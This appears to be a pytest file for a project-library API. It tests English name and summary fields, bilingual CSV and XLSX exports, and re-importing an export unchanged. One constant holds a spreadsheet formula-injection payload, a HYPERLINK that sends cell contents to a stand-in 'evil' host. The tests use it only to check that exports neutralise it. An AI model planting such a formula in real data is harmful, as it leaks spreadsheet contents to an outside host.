"""Two languages, for open data: English name and summary on projects, and exports with English or
Chinese headers and labels next to codes; every new text column neutralised, and an English
export imports back unchanged. Through HTTP on both databases."""

import csv
import io
from typing import Any

import httpx
from openpyxl import load_workbook

from app.services import export
from tests.conftest import Keys
from tests.factories import in_library, project_payload

EXPORT = "/api/v1/projects/export"
IMPORT = "/api/v1/projects/import"
FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'


def _rows(answer: httpx.Response) -> tuple[list[str], list[dict[str, str]]]:
    assert answer.status_code == 200, answer.text
    reader = csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""))
    header = next(reader)
    return header, [dict(zip(header, cells, strict=True)) for cells in reader]


async def _two(client: httpx.AsyncClient, keys: Keys) -> dict[str, dict[str, Any]]:
    futian = await keys.region("440304")
    return {
        "solar": await in_library(
            client,
            keys,
            futian,
            external_ref="EN-1",
            name="福田屋顶光伏",
            name_en="Futian rooftop solar",
            summary_en="Rooftop photovoltaics.",
            categories=["M2.1", "M3"],
            location={"lat": 22.5431, "lon": 114.0579},
        ),
        "flood": await in_library(
            client,
            keys,
            futian,
            external_ref="EN-2",
            objective="adaptation",
            categories=["A2"],
            industry_code="E4822",
            annual_emission_reduction_tco2e=None,
            adaptation_benefit="Flood defences.",
            owner={"name": "福田村", "uscc": "9144030071526726XG", "type": "collective"},
        ),
    }


class TestEnglishFields:
    async def test_name_en_and_summary_en_are_stored_and_public(
        self, client: httpx.AsyncClient, keys: Keys
    ) -> None:
        made = await _two(client, keys)
        public = (await client.get(f"/api/v1/projects/{made['solar']['id']}")).json()
        assert public["name_en"] == "Futian rooftop solar"
        assert public["summary_en"] == "Rooftop photovoltaics."
        assert (await client.get(f"/api/v1/projects/{made['flood']['id']}")).json()[
            "name_en"
        ] is None

    async def test_overlong_english_name_is_a_422(
        self, client: httpx.AsyncClient, keys: Keys
    ) -> None:
        futian = await keys.region("440304")
        answer = await client.post(
            "/api/v1/projects", json=project_payload(name_en="x" * 301), headers=futian
        )
        assert answer.status_code == 422, answer.text


class TestExportLanguages:
    async def test_english_headers_and_labels(self, client: httpx.AsyncClient, keys: Keys) -> None:
        made = await _two(client, keys)
        header, rows = _rows(await client.get(EXPORT, params={"header": "en", "sort": "name"}))
        assert header == export.header_row("en")
        assert header[:3] == ["Project ID", "Status", "Status (label)"]
        assert "Categories (labels)" in header and "Name (English)" in header
        by_id = {r["Project ID"]: r for r in rows}
        solar = by_id[made["solar"]["id"]]
        assert solar["Status (label)"] == "in the library"
        assert solar["Categories"] == "M3;M2.1"  # in taxonomy order, as the list shows them
        assert solar["Categories (labels)"] == (
            "energy-saving and carbon-reduction retrofits;solar energy"
        )
        assert solar["Objective (label)"] == "climate change mitigation"
        assert solar["Region (label)"] == "福田区, Guangdong"
        assert solar["Name (English)"] == "Futian rooftop solar"
        assert (solar["Location latitude"], solar["Location longitude"]) == ("22.5431", "114.0579")
        flood = by_id[made["flood"]["id"]]
        assert flood["Owner type (label)"] == "rural collective economic organisation"
        assert flood["Location latitude"] == ""

    async def test_chinese_headers_have_chinese_labels_next_to_codes(
        self, client: httpx.AsyncClient, keys: Keys
    ) -> None:
        made = await _two(client, keys)
        header, rows = _rows(await client.get(EXPORT, params={"header": "zh"}))
        assert header == export.header_row("zh")
        assert header.index("支持领域名称") == header.index("支持领域") + 1
        solar = next(r for r in rows if r["项目ID"] == made["solar"]["id"])
        assert solar["支持领域名称"] == "节能降碳改造;太阳能利用"
        assert solar["状态名称"] == "已入库"
        assert solar["行政区划名称"] == "福田区"
        assert solar["英文项目名称"] == "Futian rooftop solar"
        _, plain = _rows(await client.get(EXPORT))
        assert next(r for r in plain if r["id"] == made["solar"]["id"])["category_labels"] == (
            "节能降碳改造;太阳能利用"
        )

    async def test_xlsx_english_export(self, client: httpx.AsyncClient, keys: Keys) -> None:
        await _two(client, keys)
        answer = await client.get(EXPORT, params={"header": "en", "format": "xlsx"})
        assert answer.status_code == 200, answer.text
        sheet = load_workbook(io.BytesIO(answer.content), read_only=True).worksheets[0]
        values = list(sheet.iter_rows(values_only=True))
        assert list(values[0]) == export.header_row("en")
        assert len(values) == 3

    async def test_english_text_is_neutralised_in_csv_and_xlsx(
        self, client: httpx.AsyncClient, keys: Keys
    ) -> None:
        futian = await keys.region("440304")
        await in_library(client, keys, futian, name_en=FORMULA, summary_en="+1+1")
        _, (row,) = _rows(await client.get(EXPORT))
        assert row["name_en"] == "'" + FORMULA
        assert row["summary_en"] == "'+1+1"
        answer = await client.get(EXPORT, params={"format": "xlsx"})
        sheet = load_workbook(io.BytesIO(answer.content)).worksheets[0]
        header = [c.value for c in sheet[1]]
        cell = sheet.cell(row=2, column=header.index("name_en") + 1)
        assert cell.data_type == "s" and cell.value == "'" + FORMULA

    async def test_english_export_imports_back_unchanged(
        self, client: httpx.AsyncClient, keys: Keys
    ) -> None:
        await _two(client, keys)
        futian = await keys.region("440304")
        exported = await client.get(EXPORT, params={"header": "en"}, headers=futian)
        assert exported.status_code == 200
        answer = await client.post(
            IMPORT,
            files={"file": ("projects.csv", exported.content, "text/csv")},
            headers=futian,
        )
        assert answer.status_code == 200, answer.text
        assert answer.json()["summary"]["unchanged"] == 2, answer.json()
